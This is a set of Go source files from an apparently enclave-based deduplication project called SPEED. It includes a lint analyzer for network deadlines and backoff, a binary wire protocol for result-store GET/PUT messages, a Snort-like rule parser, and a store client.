//     context.WithTimeout — the mux's kill-on-timeout pattern).
//   - Methods on a type that itself declares SetDeadline, or that
//     embeds a conn-like type, are exempt: such a type is a
//     deadline-capable wrapper and the deadline decision belongs to its
//     caller.
//   - Accept loops (Accept inside a for statement) must back off on
//     failure, otherwise a transient accept error spins the acceptor at
//     100% CPU. A delegating single Accept is a wrapper and is not
//     flagged.
//   - Retry-shaped functions (dial/connect/roundTrip/retry/attempt)
//     that loop must consult a bounded backoff.
//   - Bare net.Dial is rejected in favour of net.DialTimeout.
var DeadlineAnalyzer = &Analyzer{
	Name: "deadline",
	Doc:  "network I/O must carry a deadline and retry loops a bounded backoff",
	Run:  runDeadline,
}

// deadlineIOMethods are the blocking I/O method names checked on
// conn-like receivers.
var deadlineIOMethods = map[string]bool{
	"Read": true, "Write": true,
	"Recv": true, "Send": true,
	"RecvMessage": true, "SendMessage": true,
	"RecvBatch": true, "SendBatch": true,
}

// deadlineTargetNames are the receiver type names treated as network
// endpoints. Matching is by type name, not import path, so both
// net.Conn and the module's wire.Channel (and test fixtures) qualify.
var deadlineTargetNames = map[string]bool{
	"Conn": true, "TCPConn": true, "UDPConn": true, "UnixConn": true,
	"Channel": true,
}

// listenerNames are the receiver type names whose Accept is checked.
var listenerNames = map[string]bool{
	"Listener": true, "TCPListener": true, "UnixListener": true,
}

func runDeadline(pass *Pass) {
	pkg := pass.Pkg
	wrappers := deadlineWrapperTypes(pkg)
	forEachFunc(pkg, func(_ *ast.File, fd *ast.FuncDecl) {
		if rt := recvTypeName(fd); rt != "" && wrappers[rt] {
			// A method of a deadline-capable wrapper: its caller sets
			// the deadline through the wrapper's own SetDeadline.
			return
		}
		checkDeadlineFunc(pass, fd)
	})
}

// deadlineWrapperTypes collects the package's conn-wrapper type names:
// types that declare a SetDeadline-family method, or struct types that
// embed a conn-like or listener-like type (a wrapper delegating I/O,
// and with it the deadline decision, to its embedded endpoint).
func deadlineWrapperTypes(pkg *Package) map[string]bool {
	out := make(map[string]bool)
	forEachFunc(pkg, func(_ *ast.File, fd *ast.FuncDecl) {
		if fd.Recv != nil && isDeadlineSetter(fd.Name.Name) {
			if rt := recvTypeName(fd); rt != "" {
				out[rt] = true
			}
		}
	})
	for _, f := range pkg.Files {
		for _, d := range f.Decls {
			gd, ok := d.(*ast.GenDecl)
			if !ok {
				continue
			}
			for _, spec := range gd.Specs {
				ts, ok := spec.(*ast.TypeSpec)
				if !ok {
					continue
				}
				st, ok := ts.Type.(*ast.StructType)
				if !ok {
					continue
				}
				for _, field := range st.Fields.List {
					if len(field.Names) != 0 {
						continue // named field, not embedded
					}
					name := embeddedTypeName(field.Type)
					if deadlineTargetNames[name] || listenerNames[name] {
						out[ts.Name.Name] = true
					}
				}
			}
		}
	}
	return out
}

// embeddedTypeName returns the bare type name of an embedded field
// (Conn for net.Conn, *net.TCPConn, etc.).
func embeddedTypeName(e ast.Expr) string {
	switch e := e.(type) {
	case *ast.Ident:
		return e.Name
	case *ast.SelectorExpr:
		return e.Sel.Name
	case *ast.StarExpr:
		return embeddedTypeName(e.X)
	}
	return ""
}

func isDeadlineSetter(name string) bool {
	return name == "SetDeadline" || name == "SetReadDeadline" || name == "SetWriteDeadline"
}

func checkDeadlineFunc(pass *Pass, fd *ast.FuncDecl) {
	pkg := pass.Pkg

	// Gather the function's guards: SetDeadline call positions (a guard
	// covers I/O lexically after it) and function-scoped timer bounds.
	var guards []token.Pos
	timerScoped := false
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		if sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr); ok && isDeadlineSetter(sel.Sel.Name) {
			guards = append(guards, call.Pos())
		}
		if isPkgFunc(pkg, call, "time", "NewTimer") ||
			isPkgFunc(pkg, call, "time", "After") ||
			isPkgFunc(pkg, call, "time", "AfterFunc") ||
			isPkgFunc(pkg, call, "context", "WithTimeout") ||
			isPkgFunc(pkg, call, "context", "WithDeadline") {
			timerScoped = true
		}
		return true
	})
	guarded := func(pos token.Pos) bool {
		if timerScoped {
			return true
		}
		for _, g := range guards {
			if g < pos {
				return true
			}
		}
		return false
	}

	// Record for-statement extents: Accept is only an "accept loop"
	// when called inside one.
	type span struct{ lo, hi token.Pos }
	var loops []span
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		if fs, ok := n.(*ast.ForStmt); ok {
			loops = append(loops, span{fs.Pos(), fs.End()})
		}
		return true
	})
	inLoop := func(pos token.Pos) bool {
		for _, l := range loops {
			if l.lo <= pos && pos < l.hi {
				return true
			}
		}
		return false
	}

	lower := strings.ToLower(fd.Name.Name)
	retryish := strings.Contains(lower, "retry") || strings.Contains(lower, "roundtrip") ||
		strings.Contains(lower, "dial") || strings.Contains(lower, "connect") ||
		strings.Contains(lower, "attempt")
	retryReported := false

	ast.Inspect(fd.Body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.CallExpr:
			if isPkgFunc(pkg, n, "net", "Dial") {
				pass.Reportf(n.Pos(), "net.Dial has no connect timeout; use net.DialTimeout or a net.Dialer with Timeout")
				return true
			}
			sel, ok := ast.Unparen(n.Fun).(*ast.SelectorExpr)
			if !ok {
				return true
			}
			name := sel.Sel.Name
			if name == "Accept" && isConnLike(pkg, sel.X, listenerNames) {
				if inLoop(n.Pos()) && !referencesBackoffRelief(pkg, fd) {
					pass.Reportf(n.Pos(), "accept loop has no backoff; a transient accept error spins this goroutine at full speed")
				}
				return true
			}
			if deadlineIOMethods[name] && isConnLike(pkg, sel.X, deadlineTargetNames) && !guarded(n.Pos()) {
				pass.Reportf(n.Pos(), "%s.%s has no preceding SetDeadline and no timer bound; a stalled peer blocks this path forever",
					exprText(sel.X), name)
			}
		case *ast.ForStmt:
			if retryish && !retryReported && !referencesBackoffRelief(pkg, fd) {
				retryReported = true
				pass.Reportf(n.Pos(), "retry loop in %s does not consult a bounded backoff", fd.Name.Name)
			}
		}
		return true
	})
}

// isConnLike reports whether e's named type is in the given name set.
func isConnLike(pkg *Package, e ast.Expr, names map[string]bool) bool {
	n := namedTypeOf(pkg, e)
	return n != nil && n.Obj() != nil && names[n.Obj().Name()]
}

// referencesBackoffRelief reports whether the function consults a
// backoff (an identifier mentioning backoff, or a sleep call) anywhere
// in its body.
func referencesBackoffRelief(pkg *Package, fd *ast.FuncDecl) bool {
	found := false
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.Ident:
			if strings.Contains(strings.ToLower(n.Name), "backoff") {
				found = true
			}
		case *ast.CallExpr:
			if isPkgFunc(pkg, n, "time", "Sleep") {
				found = true
			}
			if _, name := calleeParts(n); strings.Contains(strings.ToLower(name), "sleep") {
				found = true
			}
		}
		return !found
	})
	return found
}
