// Package wire defines SPEED's on-the-wire protocol between the
// DedupRuntime linked into application enclaves and the encrypted
// ResultStore: the GET/PUT request and response messages of Section
// IV-B, a length-prefixed binary framing, and a mutually attested
// secure channel (Section III-B sends tags "via a secure channel").
package wire

import (
	"encoding/binary"
	"errors"
	"fmt"

	"speed/internal/mle"
)

// Kind discriminates message types on the wire.
type Kind uint8

// Message kinds. GET checks for and fetches a stored result by tag;
// PUT uploads a freshly computed, encrypted result. The batch kinds
// (protocol v2) carry many GETs or PUTs in one round trip, the sync
// kinds let a cluster syncer pull a store's popular entries for
// re-placement on other stores (Section IV-B master synchronization),
// and the has kinds probe tag existence without fetching (chunked
// dedup's missing-chunk transfer; only sent on channels that
// negotiated FeatureChunking).
const (
	KindGetRequest Kind = iota + 1
	KindGetResponse
	KindPutRequest
	KindPutResponse
	KindBatchGetRequest
	KindBatchGetResponse
	KindBatchPutRequest
	KindBatchPutResponse
	KindSyncPullRequest
	KindSyncPullResponse
	KindHasBatchRequest
	KindHasBatchResponse
)

// String implements fmt.Stringer for diagnostics.
func (k Kind) String() string {
	switch k {
	case KindGetRequest:
		return "GET_REQUEST"
	case KindGetResponse:
		return "GET_RESPONSE"
	case KindPutRequest:
		return "PUT_REQUEST"
	case KindPutResponse:
		return "PUT_RESPONSE"
	case KindBatchGetRequest:
		return "BATCH_GET_REQUEST"
	case KindBatchGetResponse:
		return "BATCH_GET_RESPONSE"
	case KindBatchPutRequest:
		return "BATCH_PUT_REQUEST"
	case KindBatchPutResponse:
		return "BATCH_PUT_RESPONSE"
	case KindSyncPullRequest:
		return "SYNC_PULL_REQUEST"
	case KindSyncPullResponse:
		return "SYNC_PULL_RESPONSE"
	case KindHasBatchRequest:
		return "HAS_BATCH_REQUEST"
	case KindHasBatchResponse:
		return "HAS_BATCH_RESPONSE"
	default:
		return fmt.Sprintf("Kind(%d)", uint8(k))
	}
}

// ErrMalformed is returned when a payload cannot be decoded.
var ErrMalformed = errors.New("wire: malformed message")

// Message is implemented by all protocol messages.
type Message interface {
	// Kind returns the message's wire discriminator.
	Kind() Kind
	// appendTo serialises the message body (without the kind byte).
	appendTo(buf []byte) []byte
}

// GetRequest asks whether the computation with the given tag has been
// done before (Algorithm 1 line 2 / Algorithm 2 line 2).
type GetRequest struct {
	Tag mle.Tag
}

// GetResponse answers a GetRequest. When Found is true it carries the
// (r, [k], [res]) triple of Algorithm 2 line 3.
type GetResponse struct {
	Found  bool
	Sealed mle.Sealed
}

// PutRequest uploads (t, r, [k], [res]) for storage (Algorithm 1
// line 10). Replace requests that any existing entry for the tag be
// overwritten, used after a stored entry failed the verification
// protocol at the application.
type PutRequest struct {
	Tag     mle.Tag
	Sealed  mle.Sealed
	Replace bool
}

// PutResponse acknowledges a PutRequest. Err is a human-readable reason
// when OK is false (e.g. quota exceeded).
type PutResponse struct {
	OK  bool
	Err string
}

// Kind implements Message.
func (GetRequest) Kind() Kind { return KindGetRequest }

// Kind implements Message.
func (GetResponse) Kind() Kind { return KindGetResponse }

// Kind implements Message.
func (PutRequest) Kind() Kind { return KindPutRequest }

// Kind implements Message.
func (PutResponse) Kind() Kind { return KindPutResponse }

// Marshal serialises a message, prefixing its kind byte.
func Marshal(m Message) []byte {
	return AppendMarshal(make([]byte, 0, 64), m)
}

// AppendMarshal serialises a message into buf (kind byte, then body)
// and returns the extended slice, following the append convention of
// the standard library. Reusing one scratch buffer across calls makes
// steady-state marshalling allocation-free.
func AppendMarshal(buf []byte, m Message) []byte {
	buf = append(buf, byte(m.Kind()))
	return m.appendTo(buf)
}

// Unmarshal parses a message produced by Marshal.
func Unmarshal(b []byte) (Message, error) {
	if len(b) == 0 {
		return nil, ErrMalformed
	}
	kind, body := Kind(b[0]), b[1:]
	switch kind {
	case KindGetRequest:
		return decodeGetRequest(body)
	case KindGetResponse:
		return decodeGetResponse(body)
	case KindPutRequest:
		return decodePutRequest(body)
	case KindPutResponse:
		return decodePutResponse(body)
	case KindBatchGetRequest:
		return decodeBatchGetRequest(body)
	case KindBatchGetResponse:
		return decodeBatchGetResponse(body)
	case KindBatchPutRequest:
		return decodeBatchPutRequest(body)
	case KindBatchPutResponse:
		return decodeBatchPutResponse(body)
	case KindSyncPullRequest:
		return decodeSyncPullRequest(body)
	case KindSyncPullResponse:
		return decodeSyncPullResponse(body)
	case KindHasBatchRequest:
		return decodeHasBatchRequest(body)
	case KindHasBatchResponse:
		return decodeHasBatchResponse(body)
	default:
		return nil, fmt.Errorf("%w: unknown kind %d", ErrMalformed, kind)
	}
}

func (m GetRequest) appendTo(buf []byte) []byte {
	return append(buf, m.Tag[:]...)
}

func decodeGetRequest(b []byte) (GetRequest, error) {
	var m GetRequest
	if len(b) != mle.TagSize {
		return m, fmt.Errorf("%w: GET_REQUEST length %d", ErrMalformed, len(b))
	}
	copy(m.Tag[:], b)
	return m, nil
}

func (m GetResponse) appendTo(buf []byte) []byte {
	buf = appendBool(buf, m.Found)
	return appendSealed(buf, m.Sealed)
}

func decodeGetResponse(b []byte) (GetResponse, error) {
	var m GetResponse
	var err error
	if m.Found, b, err = readBool(b); err != nil {
		return m, err
	}
	if m.Sealed, b, err = readSealed(b); err != nil {
		return m, err
	}
	if len(b) != 0 {
		return m, fmt.Errorf("%w: trailing bytes in GET_RESPONSE", ErrMalformed)
	}
	return m, nil
}

func (m PutRequest) appendTo(buf []byte) []byte {
	buf = append(buf, m.Tag[:]...)
	buf = appendBool(buf, m.Replace)
	return appendSealed(buf, m.Sealed)
}

func decodePutRequest(b []byte) (PutRequest, error) {
	var m PutRequest
	if len(b) < mle.TagSize {
		return m, fmt.Errorf("%w: short PUT_REQUEST", ErrMalformed)
	}
	copy(m.Tag[:], b[:mle.TagSize])
	b = b[mle.TagSize:]
	var err error
	if m.Replace, b, err = readBool(b); err != nil {
		return m, err
	}
	if m.Sealed, b, err = readSealed(b); err != nil {
		return m, err
	}
	if len(b) != 0 {
		return m, fmt.Errorf("%w: trailing bytes in PUT_REQUEST", ErrMalformed)
	}
	return m, nil
}

func (m PutResponse) appendTo(buf []byte) []byte {
	buf = appendBool(buf, m.OK)
	return appendBytes(buf, []byte(m.Err))
}

func decodePutResponse(b []byte) (PutResponse, error) {
	var m PutResponse
	var err error
	if m.OK, b, err = readBool(b); err != nil {
		return m, err
	}
	var msg []byte
	if msg, b, err = readBytes(b); err != nil {
		return m, err
	}
	if len(b) != 0 {
		return m, fmt.Errorf("%w: trailing bytes in PUT_RESPONSE", ErrMalformed)
	}
	m.Err = string(msg)
	return m, nil
}

// OwnMessage makes a decoded message own all of its memory. Unmarshal
// is zero-copy: decoded byte fields (the Sealed triples of GET/PUT and
// their batch and sync variants) alias the input buffer, which for
// Channel.Recv is the channel's receive scratch and only valid until
// the next Recv. OwnMessage copies those fields so the message can be
// retained indefinitely — it must be called before a decoded message
// is stored or handed to another goroutine. Messages whose decoders
// already copy everything (requests with fixed-size tags, responses
// with string fields) pass through unchanged.
func OwnMessage(m Message) Message {
	switch v := m.(type) {
	case GetResponse:
		v.Sealed = v.Sealed.Clone()
		return v
	case PutRequest:
		v.Sealed = v.Sealed.Clone()
		return v
	case BatchGetResponse:
		results := make([]GetResult, len(v.Results))
		for i, r := range v.Results {
			results[i] = GetResult{Found: r.Found, Sealed: r.Sealed.Clone()}
		}
		v.Results = results
		return v
	case BatchPutRequest:
		items := make([]PutItem, len(v.Items))
		for i, it := range v.Items {
			items[i] = PutItem{Tag: it.Tag, Replace: it.Replace, Sealed: it.Sealed.Clone()}
		}
		v.Items = items
		return v
	case SyncPullResponse:
		entries := make([]SyncEntry, len(v.Entries))
		for i, e := range v.Entries {
			entries[i] = SyncEntry{Tag: e.Tag, Hits: e.Hits, Sealed: e.Sealed.Clone()}
		}
		v.Entries = entries
		return v
	default:
		return m
	}
}

func appendSealed(buf []byte, s mle.Sealed) []byte {
	buf = appendBytes(buf, s.Challenge)
	buf = appendBytes(buf, s.WrappedKey)
	return appendBytes(buf, s.Blob)
}

func readSealed(b []byte) (mle.Sealed, []byte, error) {
	var s mle.Sealed
	var err error
	if s.Challenge, b, err = readBytes(b); err != nil {
		return s, nil, err
	}
	if s.WrappedKey, b, err = readBytes(b); err != nil {
		return s, nil, err
	}
	if s.Blob, b, err = readBytes(b); err != nil {
		return s, nil, err
	}
	return s, b, nil
}

func appendBool(buf []byte, v bool) []byte {
	if v {
		return append(buf, 1)
	}
	return append(buf, 0)
}

func readBool(b []byte) (bool, []byte, error) {
	if len(b) < 1 {
		return false, nil, fmt.Errorf("%w: missing bool", ErrMalformed)
	}
	switch b[0] {
	case 0:
		return false, b[1:], nil
	case 1:
		return true, b[1:], nil
	default:
		return false, nil, fmt.Errorf("%w: bad bool %d", ErrMalformed, b[0])
	}
}

func appendBytes(buf, v []byte) []byte {
	buf = binary.BigEndian.AppendUint32(buf, uint32(len(v)))
	return append(buf, v...)
}

func readBytes(b []byte) (v, rest []byte, err error) {
	if len(b) < 4 {
		return nil, nil, fmt.Errorf("%w: missing length", ErrMalformed)
	}
	n := binary.BigEndian.Uint32(b)
	b = b[4:]
	if uint64(n) > uint64(len(b)) {
		return nil, nil, fmt.Errorf("%w: length %d exceeds payload", ErrMalformed, n)
	}
	if n == 0 {
		return nil, b, nil
	}
	return b[:n:n], b[n:], nil
}
