package mle

// Zeroize overwrites b with zeros. Derived key material (unwrapped
// result keys, secondary keys, ECDH shared secrets) must not outlive
// the operation that needed it: enclave memory encryption protects
// pages from the outside, but a later heap reuse or a swapped snapshot
// inside the enclave does not re-derive its secrecy. Call it deferred,
// immediately after the buffer is produced —
//
//	key, err := KeyGen(...)
//	defer Zeroize(key)
//
// so every return path (including panics) is covered; Zeroize(nil) is a
// no-op, so the defer is safe to place before the error check. The
// speedlint keyzero analyzer enforces this idiom.
func Zeroize(b []byte) {
	for i := range b {
		b[i] = 0
	}
}
