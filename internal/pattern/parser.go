package pattern

import (
	"bufio"
	"fmt"
	"io"
	"strconv"
	"strings"
)

// A parser for the Snort-like rule text format, covering the subset of
// rule options that the matching engine supports. Real Snort community
// rules look like:
//
//	alert tcp any any -> any 80 (msg:"WEB admin access"; \
//	    content:"GET"; nocase; content:"/admin"; \
//	    pcre:"/admin[a-z]*\.php/i"; sid:1000001;)
//
// Supported options: msg, content (with per-rule nocase), pcre (with
// trailing /i flag), sid. The header (action/protocol/addresses) is
// validated for shape but not used for matching — SPEED deduplicates
// the payload-matching computation only.

// ParseError describes a rule text parse failure with its line number.
type ParseError struct {
	// Line is the 1-based line number of the offending rule.
	Line int
	// Msg describes the problem.
	Msg string
}

// Error implements error.
func (e *ParseError) Error() string {
	return fmt.Sprintf("pattern: rule line %d: %s", e.Line, e.Msg)
}

// ParseRules reads Snort-like rule text, one rule per line. Blank
// lines and lines starting with '#' are skipped. Lines ending in '\'
// continue on the next line.
func ParseRules(r io.Reader) ([]Rule, error) {
	scanner := bufio.NewScanner(r)
	scanner.Buffer(make([]byte, 0, 64<<10), 1<<20)
	var (
		rules   []Rule
		pending strings.Builder
		lineNo  int
		startLn int
	)
	flush := func() error {
		text := strings.TrimSpace(pending.String())
		pending.Reset()
		if text == "" {
			return nil
		}
		rule, err := parseRuleLine(text, startLn)
		if err != nil {
			return err
		}
		rules = append(rules, rule)
		return nil
	}
	for scanner.Scan() {
		lineNo++
		line := strings.TrimSpace(scanner.Text())
		if pending.Len() == 0 {
			if line == "" || strings.HasPrefix(line, "#") {
				continue
			}
			startLn = lineNo
		}
		if strings.HasSuffix(line, "\\") {
			pending.WriteString(strings.TrimSuffix(line, "\\"))
			pending.WriteByte(' ')
			continue
		}
		pending.WriteString(line)
		if err := flush(); err != nil {
			return nil, err
		}
	}
	if err := scanner.Err(); err != nil {
		return nil, fmt.Errorf("pattern: read rules: %w", err)
	}
	if pending.Len() > 0 {
		if err := flush(); err != nil {
			return nil, err
		}
	}
	return rules, nil
}

// ParseRuleString parses a single rule line.
func ParseRuleString(line string) (Rule, error) {
	return parseRuleLine(strings.TrimSpace(line), 1)
}

func parseRuleLine(text string, line int) (Rule, error) {
	fail := func(format string, args ...any) (Rule, error) {
		return Rule{}, &ParseError{Line: line, Msg: fmt.Sprintf(format, args...)}
	}

	open := strings.IndexByte(text, '(')
	if open < 0 || !strings.HasSuffix(text, ")") {
		return fail("missing option block parentheses")
	}
	header := strings.Fields(text[:open])
	// action proto src sport -> dst dport
	if len(header) != 7 {
		return fail("header has %d fields, want 7 (action proto src sport -> dst dport)", len(header))
	}
	switch header[0] {
	case "alert", "log", "pass", "drop", "reject":
	default:
		return fail("unknown action %q", header[0])
	}
	if header[4] != "->" && header[4] != "<>" {
		return fail("missing direction operator, got %q", header[4])
	}

	body := text[open+1 : len(text)-1]
	opts, err := splitOptions(body)
	if err != nil {
		return fail("%v", err)
	}

	var rule Rule
	var lastContent = -1
	for _, opt := range opts {
		key, value, hasValue := strings.Cut(opt, ":")
		key = strings.TrimSpace(key)
		value = strings.TrimSpace(value)
		switch key {
		case "msg":
			rule.Name = unquote(value)
		case "sid":
			if !hasValue {
				return fail("sid requires a value")
			}
			sid, err := strconv.Atoi(value)
			if err != nil {
				return fail("bad sid %q", value)
			}
			rule.ID = sid
		case "content":
			if !hasValue {
				return fail("content requires a value")
			}
			content, err := decodeContent(unquote(value))
			if err != nil {
				return fail("bad content: %v", err)
			}
			if len(content) == 0 {
				return fail("empty content")
			}
			rule.Contents = append(rule.Contents, content)
			lastContent = len(rule.Contents) - 1
		case "nocase":
			if lastContent < 0 {
				return fail("nocase without preceding content")
			}
			// The engine folds per rule, not per content; one nocase
			// marks the whole rule case-insensitive, which is how the
			// synthetic rule sets use it.
			rule.NoCase = true
		case "pcre":
			if !hasValue {
				return fail("pcre requires a value")
			}
			pat, fold, err := decodePCRE(unquote(value))
			if err != nil {
				return fail("bad pcre: %v", err)
			}
			rule.PCRE = pat
			rule.PCRENoCase = fold
		case "classtype", "rev", "metadata", "reference", "flow", "dsize":
			// Recognized but irrelevant to payload matching.
		case "":
			// Trailing separator.
		default:
			return fail("unsupported option %q", key)
		}
	}
	if rule.ID == 0 {
		return fail("missing sid")
	}
	if len(rule.Contents) == 0 && rule.PCRE == "" {
		return fail("rule has neither content nor pcre")
	}
	return rule, nil
}

// splitOptions splits "a:1; b:\"x;y\"; c" on semicolons outside quotes.
func splitOptions(body string) ([]string, error) {
	var (
		out     []string
		cur     strings.Builder
		inQuote bool
		escaped bool
	)
	for i := 0; i < len(body); i++ {
		c := body[i]
		switch {
		case escaped:
			cur.WriteByte(c)
			escaped = false
		case c == '\\':
			cur.WriteByte(c)
			escaped = true
		case c == '"':
			cur.WriteByte(c)
			inQuote = !inQuote
		case c == ';' && !inQuote:
			if s := strings.TrimSpace(cur.String()); s != "" {
				out = append(out, s)
			}
			cur.Reset()
		default:
			cur.WriteByte(c)
		}
	}
	if inQuote {
		return nil, fmt.Errorf("unterminated quote")
	}
	if s := strings.TrimSpace(cur.String()); s != "" {
		out = append(out, s)
	}
	return out, nil
}

func unquote(s string) string {
	if len(s) >= 2 && s[0] == '"' && s[len(s)-1] == '"' {
		return s[1 : len(s)-1]
	}
	return s
}

// decodeContent handles Snort's |41 42 43| hex-byte notation embedded
// in content strings, plus the \" and \\ escapes.
func decodeContent(s string) ([]byte, error) {
	var out []byte
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch c {
		case '|':
			end := strings.IndexByte(s[i+1:], '|')
			if end < 0 {
				return nil, fmt.Errorf("unterminated hex block")
			}
			hexPart := strings.ReplaceAll(s[i+1:i+1+end], " ", "")
			if len(hexPart)%2 != 0 {
				return nil, fmt.Errorf("odd-length hex block %q", hexPart)
			}
			for j := 0; j < len(hexPart); j += 2 {
				v, err := strconv.ParseUint(hexPart[j:j+2], 16, 8)
				if err != nil {
					return nil, fmt.Errorf("bad hex byte %q", hexPart[j:j+2])
				}
				out = append(out, byte(v))
			}
			i += end + 1
		case '\\':
			if i+1 >= len(s) {
				return nil, fmt.Errorf("trailing backslash")
			}
			i++
			out = append(out, s[i])
		default:
			out = append(out, c)
		}
	}
	return out, nil
}

// decodePCRE strips the /.../flags wrapper, honouring the i flag.
func decodePCRE(s string) (pattern string, foldCase bool, err error) {
	if len(s) < 2 || s[0] != '/' {
		return "", false, fmt.Errorf("pcre must be /pattern/flags")
	}
	end := strings.LastIndexByte(s, '/')
	if end == 0 {
		return "", false, fmt.Errorf("unterminated pcre")
	}
	pattern = s[1:end]
	for _, f := range s[end+1:] {
		switch f {
		case 'i':
			foldCase = true
		case 's', 'm', 'x':
			// Accepted and ignored: the engine's semantics already
			// approximate these for the rule subset in use.
		default:
			return "", false, fmt.Errorf("unsupported pcre flag %q", f)
		}
	}
	return pattern, foldCase, nil
}

// FormatRule renders a Rule back into Snort-like text (a generic
// "alert ip any any -> any any" header), useful for persisting
// generated rule sets.
func FormatRule(r Rule) string {
	var b strings.Builder
	b.WriteString("alert ip any any -> any any (")
	if r.Name != "" {
		fmt.Fprintf(&b, "msg:%q; ", r.Name)
	}
	for _, c := range r.Contents {
		fmt.Fprintf(&b, "content:%q; ", encodeContent(c))
	}
	if r.NoCase {
		b.WriteString("nocase; ")
	}
	if r.PCRE != "" {
		flags := ""
		if r.PCRENoCase {
			flags = "i"
		}
		fmt.Fprintf(&b, "pcre:\"/%s/%s\"; ", r.PCRE, flags)
	}
	fmt.Fprintf(&b, "sid:%d;)", r.ID)
	return b.String()
}

func encodeContent(c []byte) string {
	printable := true
	for _, b := range c {
		if b < 0x20 || b > 0x7e || b == '|' || b == '"' || b == '\\' || b == ';' {
			printable = false
			break
		}
	}
	if printable {
		return string(c)
	}
	var b strings.Builder
	b.WriteByte('|')
	for i, by := range c {
		if i > 0 {
			b.WriteByte(' ')
		}
		fmt.Fprintf(&b, "%02X", by)
	}
	b.WriteByte('|')
	return b.String()
}
