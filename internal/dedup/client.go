package dedup

import (
	"errors"
	"fmt"
	"net"
	"sync"

	"speed/internal/enclave"
	"speed/internal/mle"
	"speed/internal/store"
	"speed/internal/wire"
)

// StoreClient is the runtime's view of the encrypted ResultStore. Both
// deployments of Section IV-B are supported: a store on the same
// machine (LocalClient) and a store on a dedicated server reached over
// the attested secure channel (RemoteClient).
type StoreClient interface {
	// Get performs a GET_REQUEST for the tag.
	Get(tag mle.Tag) (mle.Sealed, bool, error)
	// Put performs a PUT_REQUEST for the tag. With replace true, any
	// existing entry is overwritten (used after the stored entry
	// failed verification at this application).
	Put(tag mle.Tag, sealed mle.Sealed, replace bool) error
	// Close releases the client's resources.
	Close() error
}

// ErrPutRejected is returned when the store refuses a PUT, e.g. due to
// the quota mechanism.
var ErrPutRejected = errors.New("dedup: store rejected put")

// LocalClient talks to a Store in the same process, modelling the
// paper's default deployment of the ResultStore "at the same machine of
// the outsourced applications". Requests still pass through the store
// enclave's ECALLs, so transition costs are accounted identically to
// the networked path minus the socket.
type LocalClient struct {
	store *store.Store
	owner enclave.Measurement
}

var _ StoreClient = (*LocalClient)(nil)

// NewLocalClient creates a client operating on behalf of the
// application with the given measurement.
func NewLocalClient(st *store.Store, owner enclave.Measurement) *LocalClient {
	return &LocalClient{store: st, owner: owner}
}

// Get implements StoreClient. Authorization denials present as misses,
// matching the over-the-wire behaviour (deny without information).
func (c *LocalClient) Get(tag mle.Tag) (mle.Sealed, bool, error) {
	sealed, found, err := c.store.GetAs(c.owner, tag)
	if errors.Is(err, store.ErrUnauthorized) {
		return mle.Sealed{}, false, nil
	}
	return sealed, found, err
}

// Put implements StoreClient.
func (c *LocalClient) Put(tag mle.Tag, sealed mle.Sealed, replace bool) error {
	put := c.store.Put
	if replace {
		put = c.store.PutReplace
	}
	_, err := put(c.owner, tag, sealed)
	if errors.Is(err, store.ErrQuota) || errors.Is(err, store.ErrUnauthorized) {
		return fmt.Errorf("%w: %v", ErrPutRejected, err)
	}
	return err
}

// Close implements StoreClient; the local client does not own the
// store, so it is a no-op.
func (c *LocalClient) Close() error { return nil }

// RemoteClient talks to a store server over an attested secure channel.
// The paper's prototype uses synchronous communication (Section IV-B),
// so each request holds the channel until its response arrives.
type RemoteClient struct {
	mu sync.Mutex
	ch *wire.Channel
}

var _ StoreClient = (*RemoteClient)(nil)

// Dial connects to a store server at addr on the same platform,
// performing the attested handshake from the application enclave app
// and requiring the server to prove the expected store measurement.
func Dial(addr string, app *enclave.Enclave, storeMeasurement enclave.Measurement) (*RemoteClient, error) {
	return DialTrust(addr, app, storeMeasurement, nil)
}

// DialTrust is Dial that additionally accepts a store on a remote
// machine whose platform attestation key is in trust (remote
// attestation) — the cross-machine "master ResultStore" deployment of
// Section IV-B.
func DialTrust(addr string, app *enclave.Enclave, storeMeasurement enclave.Measurement, trust *wire.Trust) (*RemoteClient, error) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("dedup: dial store: %w", err)
	}
	ch, err := wire.ClientHandshakeTrust(conn, app, storeMeasurement, trust)
	if err != nil {
		conn.Close()
		return nil, fmt.Errorf("dedup: handshake: %w", err)
	}
	return &RemoteClient{ch: ch}, nil
}

// NewRemoteClient wraps an already-established channel.
func NewRemoteClient(ch *wire.Channel) *RemoteClient {
	return &RemoteClient{ch: ch}
}

// Get implements StoreClient.
func (c *RemoteClient) Get(tag mle.Tag) (mle.Sealed, bool, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if err := c.ch.SendMessage(wire.GetRequest{Tag: tag}); err != nil {
		return mle.Sealed{}, false, fmt.Errorf("dedup: send get: %w", err)
	}
	msg, err := c.ch.RecvMessage()
	if err != nil {
		return mle.Sealed{}, false, fmt.Errorf("dedup: recv get: %w", err)
	}
	resp, ok := msg.(wire.GetResponse)
	if !ok {
		return mle.Sealed{}, false, fmt.Errorf("dedup: unexpected reply %v", msg.Kind())
	}
	return resp.Sealed, resp.Found, nil
}

// Put implements StoreClient.
func (c *RemoteClient) Put(tag mle.Tag, sealed mle.Sealed, replace bool) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	if err := c.ch.SendMessage(wire.PutRequest{Tag: tag, Sealed: sealed, Replace: replace}); err != nil {
		return fmt.Errorf("dedup: send put: %w", err)
	}
	msg, err := c.ch.RecvMessage()
	if err != nil {
		return fmt.Errorf("dedup: recv put: %w", err)
	}
	resp, ok := msg.(wire.PutResponse)
	if !ok {
		return fmt.Errorf("dedup: unexpected reply %v", msg.Kind())
	}
	if !resp.OK {
		return fmt.Errorf("%w: %s", ErrPutRejected, resp.Err)
	}
	return nil
}

// Close implements StoreClient.
func (c *RemoteClient) Close() error {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.ch.Close()
}
