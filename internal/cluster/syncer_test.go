package cluster

import (
	"fmt"
	"testing"
	"time"

	"speed/internal/mle"
)

// TestSyncerPopularResults: a hot result computed on a member that is
// not among its tag's ring owners (e.g. written while the owners were
// down, or before the node list grew) is pulled over the wire and
// placed on the owners, so routed GETs start hitting it.
func TestSyncerPopularResults(t *testing.T) {
